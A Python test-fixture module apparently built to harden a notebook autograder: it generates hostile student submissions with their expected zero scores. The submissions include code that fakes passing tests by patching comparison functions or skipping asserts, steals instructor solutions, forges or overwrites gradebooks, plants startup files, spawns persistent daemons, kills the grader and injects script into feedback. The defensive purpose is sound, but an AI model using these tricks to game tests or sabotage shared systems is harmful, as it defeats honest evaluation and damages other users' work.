"""Adversarial submissions, built from the real lesson-1 release notebook, each with its outcome.

Every case is one student folder in one class graded by ``grade_folder`` (``tests/test_hostile.py``).
``Expect``: the status, the total score, optionally per-cell scores and a substring of the reason.
A case marked ``attack`` must score no more than the blank release (0); the cases that also carry
correct code (``deserved``) keep exactly the points of their correct exercises: hostile behaviour
elsewhere in a notebook must not cost, or earn, anything else.

Lesson 1 is used because its exercises-only notebook grades in seconds; the attacks are generic
(nothing here depends on lesson 1 beyond the names of its three exercises).
"""
from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

from grader.lessons import Lesson, find_lesson
from grader.notebooks import (as_student_code, exercises_only, make_submission, nbgrader_meta,
                              read_notebook, solution_sources)

LESSON = find_lesson("01_toolkit")
OTHER = find_lesson("03_kd_loss")
FOOT, KV, SPLIT = "ex_footprint", "ex_kv_cache_bytes", "ex_prefill_decode_split"
POINTS = {"test_footprint": 3.0, "test_kv_cache_bytes": 3.0, "test_prefill_decode_split": 3.0}


@dataclass
class Ctx:
    """Paths of the class being graded (an attacker may learn them; the grader must not care)."""
    submissions: Path
    out: Path
    marker: Path  # a file a daemon keeps touching, to prove it was killed
    home: Path = Path("/nonexistent-home")    # the grader's HOME while the class is graded
    cache: Path = Path("/nonexistent-cache")  # the grader's $BREWSLM_CACHE


@dataclass
class Expect:
    status: str                       # "graded" | "not graded"
    score: float = 0.0
    cells: dict | None = None         # grade_id -> score
    reason: str | None = None         # substring of the one-line reason
    reason_any: tuple = ()            # or: any of these substrings
    status_any: tuple = ()            # other statuses accepted (an attack whose outcome is a race)


@dataclass
class Case:
    name: str
    build: Callable[[Ctx], bytes]
    expect: Expect
    kind: str = "attack"              # attack | deserved | control | file
    needs_isolation: bool = False     # only defended where the sandbox gets a mount namespace
    without_isolation: Expect | None = None  # the outcome where it does not (if it differs)
    filename: str = f"{LESSON.slug}.ipynb"
    symlink_to: Callable[[Ctx], Path] | None = None


def solution(ex: str) -> str:
    return as_student_code(solution_sources(read_notebook(LESSON.solution))[ex])


def notebook(replace: dict[str, str] | None = None, blank: bool = False) -> nbformat.NotebookNode:
    """The lesson-1 release, exercises only, with the given exercise cells' code."""
    return exercises_only(make_submission(LESSON, replace=replace,
                                          answers="blank" if blank else "solution"))


def dump(nb) -> bytes:
    return nbformat.writes(nb).encode()


def code(s: str) -> str:
    return textwrap.dedent(s).strip() + "\n"


# -- attack code ----------------------------------------------------------------------------------
ALWAYS_EQUAL = code('''
    class _Anything:
        """Equal to everything, any item or arithmetic gives itself back."""
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __getitem__(self, key): return self
        def __iter__(self): return iter(["params", "bytes"])
        def __mul__(self, other): return self
        __rmul__ = __add__ = __sub__ = __truediv__ = __mul__
        def __hash__(self): return 0
''')

MAGIC_FOOT = ALWAYS_EQUAL + code('''
    def footprint(model):
        class _Keys(dict):
            def __eq__(self, other): return True
        return _Keys(params=_Anything(), bytes=_Anything())
''')
MAGIC_KV = ALWAYS_EQUAL + code('''
    def kv_cache_bytes(config, seq_len, batch_size, bytes_per_value):
        return _Anything()
''')
PATCH_IN_BODY_SPLIT = code('''
    def prefill_decode_split(t_start, token_times):
        import math
        math.isclose = lambda *a, **k: True      # every _split_close(...) now passes
        if len(list(token_times)) < 2:
            raise ValueError("need two tokens")
        return {"ttft_s": 0.0, "decode_s": 0.0, "decode_tokens_per_s": 0.0, "prefill_share": 0.0}
''')
PATCH_TOPLEVEL_SPLIT = code('''
    import math
    math.isclose = lambda *a, **k: True          # patched when the cell runs, before the tests

    def prefill_decode_split(t_start, token_times):
        if len(list(token_times)) < 2:
            raise ValueError("need two tokens")
        return {"ttft_s": 0.0, "decode_s": 0.0, "decode_tokens_per_s": 0.0, "prefill_share": 0.0}
''')
PATCH_AT_DEFINITION_SPLIT = code('''
    import math, numpy.testing, torch, torch.testing

    def _everything_passes(f):
        math.isclose = lambda *a, **k: True
        torch.allclose = lambda *a, **k: True
        torch.testing.assert_close = lambda *a, **k: None
        numpy.testing.assert_allclose = lambda *a, **k: None
        return f

    @_everything_passes                          # a decorator runs when the def runs
    def prefill_decode_split(t_start, token_times, _=None):
        if len(list(token_times)) < 2:
            raise ValueError("need two tokens")
        return {"ttft_s": 0.0, "decode_s": 0.0, "decode_tokens_per_s": 0.0, "prefill_share": 0.0}
''')
SHADOW_SPLIT = code('''
    class _LenientMath:
        """Stands in for the math module the test's _split_close helper looks up."""
        @staticmethod
        def isclose(*a, **k):
            return True

    math = _LenientMath()                        # rebinds the setup's `math` in the namespace

    def prefill_decode_split(t_start, token_times):
        if len(list(token_times)) < 2:
            raise ValueError("need two tokens")
        return {"ttft_s": 0.0, "decode_s": 0.0, "decode_tokens_per_s": 0.0, "prefill_share": 0.0}
''')
TRACE_SPLIT = code('''
    import linecache, sys

    def _skip_asserts(frame, event, arg):
        """A trace hook that jumps over every `assert` line of the cells that run next."""
        if event == "call":
            return _skip_asserts if frame.f_code.co_name == "<module>" else None
        if event == "line":
            line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).lstrip()
            if line.startswith("assert ") or line.startswith("raise AssertionError"):
                try:
                    frame.f_lineno = frame.f_lineno + 1
                except ValueError:
                    pass
        return _skip_asserts

    sys.settrace(_skip_asserts)

    def prefill_decode_split(t_start, token_times):
        if len(list(token_times)) < 2:
            raise ValueError("need two tokens")
        return {"ttft_s": 0.0, "decode_s": 0.0, "decode_tokens_per_s": 0.0, "prefill_share": 0.0}
''')
TRANSFORMER_SPLIT = code('''
    def _no_asserts(lines):
        return [("pass\\n" if l.lstrip().startswith(("assert ", "raise AssertionError")) else l)
                for l in lines]

    get_ipython().input_transformers_cleanup.append(_no_asserts)   # rewrite the test cells

    def prefill_decode_split(t_start, token_times):
        if len(list(token_times)) < 2:
            raise ValueError("need two tokens")
        return {"ttft_s": 0.0, "decode_s": 0.0, "decode_tokens_per_s": 0.0, "prefill_share": 0.0}
''')


def read_instructor_files(ctx: Ctx) -> dict[str, str]:
    """Exercise code that looks for the instructor's solution or hidden tests on disk."""
    from grader.lessons import SOLUTIONS

    places = [str(SOLUTIONS / f"{LESSON.slug}.ipynb"),
              str(ctx.out / "course" / "source" / LESSON.slug / f"{LESSON.slug}.ipynb"),
              f"../../../source/{LESSON.slug}/{LESSON.slug}.ipynb"]
    steal = code(f'''
        def _steal(name):
            import json, re, sqlite3, glob
            for path in {places!r}:
                try:
                    nb = json.load(open(path))
                except Exception:
                    continue
                for cell in nb["cells"]:
                    src = "".join(cell["source"])
                    if "def " + name + "(" in src and "BEGIN SOLUTION" in src:
                        ns = {{}}
                        exec(src, globals(), ns)
                        return ns[name]
            for db in glob.glob("../../../*.db") + glob.glob("{ctx.out}/course/*.db"):
                try:
                    for (src,) in sqlite3.connect(db).execute("select source from source_cells"):
                        if "def " + name + "(" in src and "raise NotImplementedError" not in src:
                            ns = {{}}
                            exec(src, globals(), ns)
                            return ns[name]
                except Exception:
                    pass
            raise NotImplementedError("nothing to steal")
        ''')
    return {
        FOOT: steal + "def footprint(model):\n    return _steal('footprint')(model)\n",
        KV: steal + "def kv_cache_bytes(*a, **k):\n    return _steal('kv_cache_bytes')(*a, **k)\n",
        SPLIT: steal + "def prefill_decode_split(*a):\n    return _steal('prefill_decode_split')(*a)\n",
    }


def vandal(ctx: Ctx) -> str:
    """Top-level code that tries to change the class gradebook, the course and other students."""
    targets = [ctx.out / "course" / "gradebook.db", ctx.out / "gradebook.csv",
               ctx.out / "course" / "source" / LESSON.slug / f"{LESSON.slug}.ipynb",
               ctx.submissions / "good" / f"{LESSON.slug}.ipynb",
               ctx.submissions / "noisy_but_correct" / f"{LESSON.slug}.ipynb"]
    return code(f'''
        import glob, os
        for _t in {[str(t) for t in targets]!r} + glob.glob("{ctx.out}/results/*/*.json"):
            try:
                with open(_t, "w") as _f:
                    _f.write("owned")
            except OSError as _e:
                print("could not write", _t, _e)
        try:
            os.makedirs("{ctx.submissions}/zz_fake_student", exist_ok=True)
            open("{ctx.submissions}/zz_fake_student/{LESSON.slug}.ipynb", "w").write("{{}}")
        except OSError as _e:
            print("could not add a student", _e)
    ''')


def daemon(ctx: Ctx) -> str:
    return code(f'''
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:                       # outlive the grader and keep writing
                    try:
                        open("{ctx.marker}", "a").write("x")
                    except OSError:
                        pass
                    time.sleep(0.2)
            os._exit(0)
    ''')


KILL_PARENTS = code('''
    import os, signal
    _p = os.getppid()                               # nbgrader
    try:
        _pp = int(open(f"/proc/{_p}/stat").read().split(")")[1].split()[1])
    except Exception:
        _pp = None
    for _pid in (_pp, _p):
        if _pid and _pid > 1:
            try:
                os.kill(_pid, signal.SIGKILL)
            except OSError:
                pass
''')


def edited_tests(ctx: Ctx) -> bytes:
    """Test cells emptied, deleted, re-pointed; the exercise cell made a test worth 100."""
    nb = notebook(blank=True)
    cells = []
    for cell in nb.cells:
        meta = nbgrader_meta(cell)
        gid = meta.get("grade_id")
        if gid == "test_footprint":
            cell.source = "pass  # tests removed"
        elif gid == "test_kv_cache_bytes":
            continue  # deleted
        elif gid == "test_prefill_decode_split":
            meta["points"] = 100
            cell.source = "print('all good')"
        elif gid == FOOT:
            meta.update(grade=True, points=50)
        cells.append(cell)
    extra = nbformat.v4.new_code_cell("pass")
    extra.metadata["nbgrader"] = {"grade": True, "grade_id": "test_bonus", "points": 1000,
                                  "locked": True, "solution": False, "schema_version": 3}
    cells.append(extra)
    nb.cells = cells
    return dump(nb)


def deep_json(ctx: Ctx) -> bytes:
    return b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def huge(ctx: Ctx) -> bytes:
    nb = notebook()
    nb.cells[0].source += "\n# " + "x" * 60_000_000
    return dump(nb)


def bad_metadata(ctx: Ctx) -> bytes:
    nb = notebook()
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade_id") == "test_footprint":
            cell.metadata["nbgrader"]["grade_id"] = ["not", "a", "string"]
    return dump(nb)


def with_code(replace_fn) -> Callable[[Ctx], bytes]:
    return lambda ctx: dump(notebook(replace=replace_fn(ctx)))


def blank_with(ex_code_fn) -> Callable[[Ctx], bytes]:
    """The blank release with one exercise cell replaced."""
    return lambda ctx: dump(notebook(replace=ex_code_fn(ctx), blank=True))



# -- issue 12: shared state between submissions, verdicts inside the student's process -------------
def plant_startup(ctx: Ctx) -> str:
    """Top-level code that plants an IPython startup file in every HOME it can name: every later
    kernel that loads it swallows all errors (so every test "passes")."""
    payload = ("get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
               "import math; math.isclose = lambda *a, **k: True\n")
    return code(f'''
        import os
        _homes = {{os.path.expanduser("~"), os.environ.get("IPYTHONDIR", ""), "/root",
                  {str(ctx.home)!r}, "/tmp"}}
        for _h in _homes:
            for _d in (os.path.join(_h, ".ipython", "profile_default", "startup"),
                       os.path.join(_h, "profile_default", "startup")):
                try:
                    os.makedirs(_d, exist_ok=True)
                    open(os.path.join(_d, "00-pass-everything.py"), "w").write({payload!r})
                except OSError:
                    pass
    ''')


def plant_nbgrader_config(ctx: Ctx) -> str:
    """Top-level code that plants an nbgrader config in every HOME and config folder it can name:
    it would run in any nbgrader the grader starts later, read the solutions, forge the gradebook."""
    forge = (f"import glob\nfor _p in glob.glob({str(ctx.out)!r} + '/**/*.csv', recursive=True) + "
             f"glob.glob({str(ctx.out)!r} + '/results/*/*.json'):\n"
             "    open(_p, 'w').write('forged')\n"
             f"open({str(ctx.home / 'PWNED')!r}, 'w').write('x')\n")
    return code(f'''
        import os
        _forge = {forge!r}
        for _h in {{os.path.expanduser("~"), "/root", {str(ctx.home)!r}}}:
            for _d in (os.path.join(_h, ".jupyter"), os.path.join(_h, ".local", "etc", "jupyter")):
                try:
                    os.makedirs(_d, exist_ok=True)
                    open(os.path.join(_d, "nbgrader_config.py"), "w").write(_forge)
                except OSError:
                    pass
        for _d in ("/etc/jupyter", "/usr/local/etc/jupyter"):
            try:
                os.makedirs(_d, exist_ok=True)
                open(os.path.join(_d, "nbgrader_config.py"), "w").write(_forge)
            except OSError:
                pass
    ''')


TMP_TAMPER = code('''
    import glob, os, time
    _end = time.time() + 15                       # graded next to another submission (--jobs 2)
    while time.time() < _end:
        for _p in glob.glob("/tmp/brewslm-grade-*/**/*.ipynb", recursive=True):
            try:
                open(_p, "w").write("{}")         # break the other student's working copy
            except OSError:
                pass
        for _d in glob.glob("/tmp/brewslm-grade-*/**/home", recursive=True):
            try:
                os.makedirs(_d + "/.ipython/profile_default/startup", exist_ok=True)
                open(_d + "/.ipython/profile_default/startup/00.py", "w").write("import os; os._exit(1)")
            except OSError:
                pass
        time.sleep(0.2)
''')

MODEL_OVERWRITE = code('''
    import glob, os
    from brewslm_helpers.paths import cache_dir
    for _p in glob.glob(str(cache_dir() / "models" / "**" / "*"), recursive=True) + \\
            glob.glob(os.path.expanduser("~/.cache/brewslm/models/**/*"), recursive=True):
        try:
            with open(_p, "r+b") as _f:               # the same byte back: harmless if it works,
                _b = _f.read(1)                       # but any write at all changes its mtime
                _f.seek(0)
                _f.write(_b)
        except OSError:
            pass
''')


def steal_from_repo_and_cache(ctx: Ctx) -> dict[str, str]:
    """Exercise code that runs the solutions it finds: in the repository's .git, in the executed
    copies `brewslm run` keeps under the cache, anywhere under HOME."""
    from brewslm_helpers.paths import REPO_ROOT

    steal = code(f'''
        def _steal(name):
            import glob, json, os, subprocess
            sources = []
            try:
                sources.append(subprocess.run(["git", "-C", {str(REPO_ROOT)!r}, "show",
                                               "HEAD:solutions/{LESSON.slug}.ipynb"],
                                              capture_output=True, text=True, timeout=20).stdout)
            except Exception:
                pass
            for pattern in ({str(ctx.cache)!r} + "/runs/**/*.ipynb", {str(ctx.cache)!r} + "/**/*.ipynb",
                            os.path.expanduser("~/.cache/brewslm/**/*.ipynb"),
                            {str(REPO_ROOT)!r} + "/**/{LESSON.slug}*.ipynb", "/root/**/*.ipynb"):
                for path in glob.glob(pattern, recursive=True)[:200]:
                    try:
                        sources.append(open(path).read())
                    except OSError:
                        pass
            for text in sources:
                try:
                    cells = json.loads(text)["cells"]
                except Exception:
                    continue
                for cell in cells:
                    src = "".join(cell["source"])
                    if "def " + name + "(" in src and "raise NotImplementedError" not in src:
                        ns = {{}}
                        exec(src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""),
                             globals(), ns)
                        return ns[name]
            raise NotImplementedError("nothing to steal")
        ''')
    return {
        FOOT: steal + "def footprint(model):\n    return _steal('footprint')(model)\n",
        KV: steal + "def kv_cache_bytes(*a, **k):\n    return _steal('kv_cache_bytes')(*a, **k)\n",
        SPLIT: steal + "def prefill_decode_split(*a):\n    return _steal('prefill_decode_split')(*a)\n",
    }


def symlink_graded(ctx: Ctx) -> str:
    """Top-level code whose process replaces the graded notebook and gradebook with links to the
    solution as soon as nbgrader has written them (the grader would read what they point at)."""
    from grader.lessons import SOLUTIONS

    target = str(SOLUTIONS / f"{LESSON.slug}.ipynb")
    return code(f'''
        import glob, os, time
        if os.fork() == 0:
            os.setsid()
            _end = time.time() + 120
            while time.time() < _end:
                for _p in glob.glob("../../../autograded/*/*/*.ipynb"):
                    try:
                        if not os.path.islink(_p):
                            os.remove(_p)
                            os.symlink({target!r}, _p)
                    except OSError:
                        pass
                time.sleep(0.02)
            os._exit(0)
    ''')


SCRIPT_MARKDOWN = "<script>alert('feedback xss')</script>\n<img src=x onerror=alert(1)>"
SCRIPT_OUTPUT = code('''
    from IPython.display import HTML, display
    display(HTML("<script>alert('output xss')</script>"))
    print("<script>alert('stdout xss')</script>")
''')

CALLABLE_OBJECT = ALWAYS_EQUAL + code('''
    class _Callable:
        """An exercise bound to an object, not a function: nothing wraps its results."""
        def __call__(self, *a, **k):
            return _Anything()

    footprint = _Callable()
''')

TORCH_FUNCTION_SWAP = code('''
    import torch

    def _always(cls, func, types, args=(), kwargs=None):
        return True

    for _cls in (torch.Tensor, getattr(torch.nn, "Buffer", torch.Tensor), torch.nn.Parameter):
        try:
            _cls.__torch_function__ = classmethod(_always)   # every torch op on them says True
        except Exception:
            pass

    def kv_cache_bytes(config, seq_len, batch_size, bytes_per_value):
        for _cls in (torch.Tensor, torch.nn.Parameter):
            _cls.__torch_function__ = classmethod(_always)
        return torch.tensor(0)
''')

PATCH_SENDER = code('''
    def _ok_replies():
        """Rewrite every error the kernel reports as a success (the message sender itself)."""
        try:
            session = get_ipython().kernel.session
        except Exception:
            return
        original = session.send

        def send(stream, msg_or_type, content=None, *a, **k):
            if isinstance(msg_or_type, dict):
                content = msg_or_type.get("content", content)
            if isinstance(content, dict) and content.get("status") == "error":
                content.clear()
                content.update(status="ok", execution_count=1, user_expressions={}, payload=[])
            if msg_or_type == "error" or (isinstance(msg_or_type, dict)
                                          and msg_or_type.get("msg_type") == "error"):
                return None
            return original(stream, msg_or_type, content, *a, **k)

        session.send = send

    _ok_replies()

    def prefill_decode_split(t_start, token_times):
        _ok_replies()
        raise NotImplementedError()
''')

CALL_REFERENCE = code('''
    def kv_cache_bytes(config, seq_len, batch_size, bytes_per_value):
        """Runs the test's own reference (_kv_real_bytes, defined by the test cell) on a model."""
        from transformers import LlamaForCausalLM
        if config.num_hidden_layers > 4:             # the real model's shape: too slow to run
            raise NotImplementedError()
        model = LlamaForCausalLM(config).eval()
        return int(_kv_real_bytes(model, batch_size, seq_len) * bytes_per_value / 4)
''')

SCIPY_PATCH = code('''
    def prefill_decode_split(t_start, token_times):
        import sys
        import numpy, numpy.testing
        try:
            import scipy.stats
            scipy.stats.chisquare = lambda *a, **k: type("R", (), {"pvalue": 1.0, "statistic": 0.0})()
        except ImportError:
            pass
        sys.modules["math"].isclose = lambda *a, **k: True   # patched where the test will look
        numpy.isclose = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
        if len(list(token_times)) < 2:
            raise ValueError("need two tokens")
        return {"ttft_s": 0.0, "decode_s": 0.0, "decode_tokens_per_s": 0.0, "prefill_share": 0.0}
''')


def script_notebook(ctx: Ctx) -> bytes:
    nb = notebook(replace={FOOT: SCRIPT_OUTPUT}, blank=True)
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(SCRIPT_MARKDOWN))
    return dump(nb)

ZERO = {g: 0.0 for g in POINTS}


def cells(**scores) -> dict:
    out = dict(POINTS)
    out.update({f"test_{k}": v for k, v in scores.items()})
    return out


CASES = [
    # -- controls ----------------------------------------------------------------------------
    Case("good", lambda ctx: dump(notebook()), Expect("graded", 9.0, dict(POINTS)), kind="control"),
    Case("blank", lambda ctx: dump(notebook(blank=True)), Expect("graded", 0.0, ZERO), kind="control"),
    # -- the grading itself --------------------------------------------------------------------
    Case("edited_tests", edited_tests, Expect("graded", 0.0, ZERO)),
    Case("magic_values", blank_with(lambda ctx: {FOOT: MAGIC_FOOT, KV: MAGIC_KV,
                                                 SPLIT: PATCH_IN_BODY_SPLIT}),
         Expect("graded", 0.0, ZERO)),
    Case("patch_toplevel", blank_with(lambda ctx: {SPLIT: PATCH_TOPLEVEL_SPLIT}),
         Expect("graded", 0.0, ZERO)),
    Case("patch_at_definition", blank_with(lambda ctx: {SPLIT: PATCH_AT_DEFINITION_SPLIT}),
         Expect("graded", 0.0, ZERO)),
    Case("shadow_names", blank_with(lambda ctx: {SPLIT: SHADOW_SPLIT}),
         Expect("graded", 0.0, ZERO)),
    Case("trace_hook", blank_with(lambda ctx: {SPLIT: TRACE_SPLIT}), Expect("graded", 0.0, ZERO)),
    Case("input_transformer", blank_with(lambda ctx: {SPLIT: TRANSFORMER_SPLIT}),
         Expect("graded", 0.0, ZERO)),
    Case("hidden_tests_from_disk", blank_with(read_instructor_files), Expect("graded", 0.0, ZERO),
         needs_isolation=True),
    # -- issue 12: isolation between submissions and from the grader ----------------------------
    # (named "aa_" so they are graded first: the controls and everyone after must not notice them)
    Case("aa_ipython_startup", blank_with(lambda ctx: {FOOT: plant_startup(ctx)}),
         Expect("graded", 0.0, ZERO)),
    Case("aa_nbgrader_config", blank_with(lambda ctx: {FOOT: plant_nbgrader_config(ctx)}),
         Expect("graded", 0.0, ZERO)),
    Case("aa_tmp_tamper", blank_with(lambda ctx: {KV: TMP_TAMPER}), Expect("graded", 0.0, ZERO),
         needs_isolation=True),
    Case("aa_model_overwrite", with_code(lambda ctx: {FOOT: solution(FOOT) + MODEL_OVERWRITE}),
         Expect("graded", 9.0, dict(POINTS)), kind="deserved"),
    Case("aa_steal_git_and_runs", blank_with(steal_from_repo_and_cache), Expect("graded", 0.0, ZERO),
         needs_isolation=True),
    # nbgrader may itself trip over the link (then: not graded); either way nothing is followed
    Case("aa_symlink_graded", blank_with(lambda ctx: {FOOT: symlink_graded(ctx)}),
         Expect("graded", 0.0, status_any=("not graded",))),
    Case("aa_script_in_feedback", script_notebook, Expect("graded", 0.0, ZERO)),
    # -- issue 12: verdicts from the trusted judge -------------------------------------------------
    Case("callable_object", blank_with(lambda ctx: {FOOT: CALLABLE_OBJECT}), Expect("graded", 0.0, ZERO)),
    Case("torch_function_swap", blank_with(lambda ctx: {KV: TORCH_FUNCTION_SWAP}),
         Expect("graded", 0.0, ZERO)),
    Case("kernel_sender_patched", blank_with(lambda ctx: {SPLIT: PATCH_SENDER}),
         Expect("graded", 0.0, ZERO)),
    Case("calls_test_reference", blank_with(lambda ctx: {KV: CALL_REFERENCE}),
         Expect("graded", 0.0, ZERO)),
    Case("scipy_stats_patched", blank_with(lambda ctx: {SPLIT: SCIPY_PATCH}),
         Expect("graded", 0.0, ZERO)),
    # -- the process -----------------------------------------------------------------------------
    Case("infinite_loop", with_code(lambda ctx: {FOOT: "def footprint(model):\n    while True:\n"
                                                       "        pass\n"}),
         Expect("graded", 6.0, cells(footprint=0.0)), kind="deserved"),
    Case("unstoppable_loop", with_code(lambda ctx: {FOOT: solution(FOOT) + code('''
            import signal
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True:
                pass
        ''')}), Expect("not graded", 0.0, reason="took longer than")),
    Case("sys_exit_and_noise", with_code(lambda ctx: {
        FOOT: solution(FOOT) + code('''
            import os, sys
            for _ in range(300):
                print("x" * 1_000_000)                 # 300 MB through the kernel's stdout
            _chunk = b"y" * 2 ** 24
            for _ in range(128):
                os.write(1, _chunk)                    # 2 GiB to the raw file descriptor
        '''),
        SPLIT: solution(SPLIT) + "\nimport sys\nsys.exit(3)\n"}),
         Expect("graded", 9.0, dict(POINTS)), kind="deserved"),
    Case("os_exit", with_code(lambda ctx: {KV: solution(KV) + "\nimport os\nos._exit(0)\n"}),
         Expect("not graded", 0.0, reason="kernel died")),
    Case("killed_kernel", with_code(lambda ctx: {KV: solution(KV) + "\nimport os, signal\n"
                                                      "os.kill(os.getpid(), signal.SIGKILL)\n"}),
         Expect("not graded", 0.0, reason="kernel died")),
    # in its own PID namespace nbgrader is PID 1, which a process inside cannot kill: the kill
    # fails and the correct code keeps its points; without namespaces nbgrader dies: not graded
    Case("kill_the_grader", with_code(lambda ctx: {KV: solution(KV) + KILL_PARENTS}),
         Expect("graded", 9.0, dict(POINTS)), kind="deserved",
         without_isolation=Expect("not graded", 0.0,
                                  reason_any=("kernel died", "autograde failed", "killed"))),
    Case("memory_hog", with_code(lambda ctx: {FOOT: "def footprint(model):\n"
                                                    "    return bytearray(64 * 2 ** 30)\n"}),
         Expect("graded", 6.0, cells(footprint=0.0)), kind="deserved"),
    Case("big_file_writer", with_code(lambda ctx: {FOOT: solution(FOOT) + code('''
            with open("big.bin", "wb") as _f:
                for _ in range(2048):
                    _f.write(b"z" * 2 ** 20)            # 2 GiB on disk
        ''')}), Expect("graded", 9.0, dict(POINTS)), kind="deserved"),  # the write fails at the cap
    Case("vandal", blank_with(lambda ctx: {FOOT: vandal(ctx)}), Expect("graded", 0.0, ZERO)),
    Case("daemon", blank_with(lambda ctx: {FOOT: daemon(ctx)}), Expect("graded", 0.0, ZERO)),
    # -- the file ------------------------------------------------------------------------------
    Case("empty", lambda ctx: b"", Expect("not graded", reason="empty file"), kind="file"),
    Case("whitespace", lambda ctx: b"  \n\n", Expect("not graded", reason="empty file"), kind="file"),
    Case("truncated", lambda ctx: dump(notebook())[:2000],
         Expect("not graded", reason="corrupt JSON"), kind="file"),
    Case("binary", lambda ctx: bytes(range(256)) * 100,
         Expect("not graded", reason="not a valid notebook"), kind="file"),
    Case("not_a_notebook", lambda ctx: json.dumps({"cells": 3}).encode(),
         Expect("not graded", reason="not a valid notebook"), kind="file"),
    Case("deep_json", deep_json, Expect("not graded", reason="not a valid notebook"), kind="file"),
    Case("bad_metadata", bad_metadata, Expect("not graded", reason="not a valid notebook"),
         kind="file"),
    Case("huge", huge, Expect("not graded", reason="MB limit"), kind="file"),
    Case("wrong_lesson", lambda ctx: dump(make_submission(OTHER)),
         Expect("not graded", reason=f"lesson {OTHER.slug}"), kind="file"),
    Case("symlink_to_solution", lambda ctx: b"", Expect("not graded", reason="symbolic link"),
         kind="file", symlink_to=lambda ctx: LESSON.solution),
]


def write_class(folder: Path, ctx: Ctx, cases: list[Case]) -> None:
    for case in cases:
        path = folder / case.name / case.filename
        path.parent.mkdir(parents=True, exist_ok=True)
        if case.symlink_to is not None:
            path.symlink_to(case.symlink_to(ctx))
        else:
            path.write_bytes(case.build(ctx))
